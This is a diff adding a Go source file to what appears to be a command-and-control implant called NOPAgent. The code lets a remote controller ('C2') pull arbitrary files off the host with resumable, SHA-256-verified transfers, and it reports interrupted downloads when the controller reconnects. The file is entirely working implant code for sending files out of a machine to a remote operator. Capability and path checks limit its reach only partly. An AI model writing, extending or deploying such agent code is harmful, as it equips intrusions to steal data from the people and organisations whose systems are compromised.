@@ -0,0 +1,155 @@
+package core
+
+import (
+	"crypto/sha256"
+	"io"
+	"log"
+	"os"
+	"path/filepath"
+	"time"
+)
+
+// ============================================================================
+// FILE DOWNLOAD - Resumable file_get transfers from this host
+// ============================================================================
+
+// fileTransfer is a file_get that was cut off, kept so the C2 can resume it
+// after reconnecting
+type fileTransfer struct {
+	ID      string    `json:"transfer_id"`
+	Path    string    `json:"path"`
+	Size    int64     `json:"size"`
+	Offset  int64     `json:"offset"` // bytes sent before the interruption
+	ModTime time.Time `json:"modified"`
+}
+
+// handleFileGet streams a file to the C2. A request naming an interrupted
+// transfer_id with "offset" resumes it: the file must be unchanged, the
+// bytes before offset are re-read only to hash them, and chunks continue
+// from offset so the final SHA-256 still covers the whole file.
+func (a *NOPAgent) handleFileGet(msg map[string]interface{}) {
+	if !a.capabilities["access"] {
+		a.sendError("file_get", msg, newAgentError(ErrNotSupported, "capability_disabled", "access capability is not enabled"))
+		return
+	}
+	path, _ := msg["path"].(string)
+	if path == "" {
+		a.sendError("file_get", msg, newAgentError(ErrInvalidRequest, "missing_path", "path is required"))
+		return
+	}
+	if err := a.cmdPolicy.checkPath(path); err != nil {
+		a.sendError("file_get", msg, err)
+		return
+	}
+	transferID, _ := msg["transfer_id"].(string)
+	if transferID == "" {
+		transferID = newID()
+	}
+	offsetVal, _ := msg["offset"].(float64)
+	offset := int64(offsetVal)
+
+	f, err := os.Open(path)
+	if err != nil {
+		a.sendError("file_get", msg, err)
+		return
+	}
+	defer f.Close()
+	info, err := f.Stat()
+	if err != nil {
+		a.sendError("file_get", msg, err)
+		return
+	}
+	if info.IsDir() {
+		a.sendError("file_get", msg, newAgentError(ErrInvalidRequest, "is_directory", "%s is a directory", path))
+		return
+	}
+	// Spooled output is sealed on disk and sent as the plain output, so
+	// sizes and offsets count its decrypted bytes
+	var r io.Reader = f
+	size, category := info.Size(), "file_contents"
+	if a.isSpooledOutput(path) {
+		output, outputSize, err := a.openSpooledOutput(path)
+		if err != nil {
+			a.sendError("file_get", msg, err)
+			return
+		}
+		defer output.Close()
+		r, size, category = output, outputSize, "command_output"
+	}
+	if offset < 0 || offset > size {
+		a.sendError("file_get", msg, newAgentError(ErrInvalidRequest, "invalid_offset", "offset %d is outside the file (%d bytes)", offset, size))
+		return
+	}
+
+	a.transferMutex.Lock()
+	previous, known := a.transfers[transferID]
+	a.transferMutex.Unlock()
+	if known && (previous.Path != path || previous.Size != size || !previous.ModTime.Equal(info.ModTime())) {
+		a.forgetTransfer(transferID)
+		a.sendError("file_get", msg, newAgentError(ErrInvalidRequest, "file_changed", "%s changed since transfer %s started", path, transferID))
+		return
+	}
+
+	hash := sha256.New()
+	if _, err := io.CopyN(hash, r, offset); err != nil {
+		a.sendError("file_get", msg, err)
+		return
+	}
+
+	transfer := &fileTransfer{ID: transferID, Path: path, Size: size, Offset: offset, ModTime: info.ModTime()}
+	a.transferMutex.Lock()
+	a.transfers[transferID] = transfer
+	a.transferMutex.Unlock()
+
+	if offset > 0 {
+		log.Printf("[%s] Resuming transfer %s of %s at %d/%d bytes", time.Now().Format(time.RFC3339), transferID, path, offset, size)
+	}
+	sent, digest, err := a.streamFileFrom(transferID, filepath.Base(path), category, r, offset, size, hash)
+	if err != nil {
+		a.transferMutex.Lock()
+		transfer.Offset = offset + sent
+		a.transferMutex.Unlock()
+		log.Printf("[%s] Transfer %s interrupted at %d/%d bytes: %v", time.Now().Format(time.RFC3339), transferID, offset+sent, size, err)
+		a.sendError("file_get", msg, err)
+		return
+	}
+	a.forgetTransfer(transferID)
+
+	log.Printf("[%s] Sent %s (%d bytes) as transfer %s", time.Now().Format(time.RFC3339), path, size, transferID)
+	a.relayToC2(map[string]interface{}{
+		"type":         "file_get_result",
+		"agent_id":     a.agentID,
+		"transfer_id":  transferID,
+		"path":         path,
+		"size":         size,
+		"sha256":       digest,
+		"resumed_from": offset,
+		"timestamp":    time.Now().UTC().Format(time.RFC3339),
+	})
+}
+
+func (a *NOPAgent) forgetTransfer(transferID string) {
+	a.transferMutex.Lock()
+	delete(a.transfers, transferID)
+	a.transferMutex.Unlock()
+}
+
+// reportInterruptedTransfers tells a newly connected C2 which downloads it
+// can resume with file_get and an offset
+func (a *NOPAgent) reportInterruptedTransfers() {
+	a.transferMutex.Lock()
+	pending := make([]fileTransfer, 0, len(a.transfers))
+	for _, transfer := range a.transfers {
+		pending = append(pending, *transfer)
+	}
+	a.transferMutex.Unlock()
+	if len(pending) == 0 {
+		return
+	}
+	a.writeJSON(map[string]interface{}{
+		"type":      "file_transfers_interrupted",
+		"agent_id":  a.agentID,
+		"transfers": pending,
+		"timestamp": time.Now().UTC().Format(time.RFC3339),
+	})
+}